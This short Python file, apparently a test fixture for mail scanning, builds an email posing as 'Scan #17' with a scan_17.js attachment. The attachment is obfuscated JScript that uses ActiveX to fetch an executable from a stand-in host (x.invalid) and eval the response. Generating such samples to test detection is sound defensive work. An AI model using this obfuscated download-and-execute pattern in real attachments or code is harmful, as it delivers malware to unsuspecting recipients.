"""An obfuscated script attached as it is."""
from kit import *

PIECES = ["WSc", "rip", "t.S", "hel", "l", "MSX", "ML2", ".XM", "LHT", "TP", "GE", "T", "htt", "p:/", "/x.", "inv", "ali", "d/a", ".ex", "e"]


def make():
    js = "var q=[" + ",".join('"%s"' % p for p in PIECES * 6) + "];\n"
    js += "var s=new ActiveXObject(q[0]+q[1]+q[2]+q[3]+q[4]);var x=new ActiveXObject(q[5]+q[6]+q[7]+q[8]+q[9]);\n"
    js += "x.open(q[10]+q[11],q[12]+q[13]+q[14]+q[15]+q[16]+q[17]+q[18]+q[19],false);x.send();eval(x.responseText);\n"
    return (Mail("Scan #17", "office@mail.example.com").text("see attached\n").attach("scan_17.js", js.encode()).bytes())
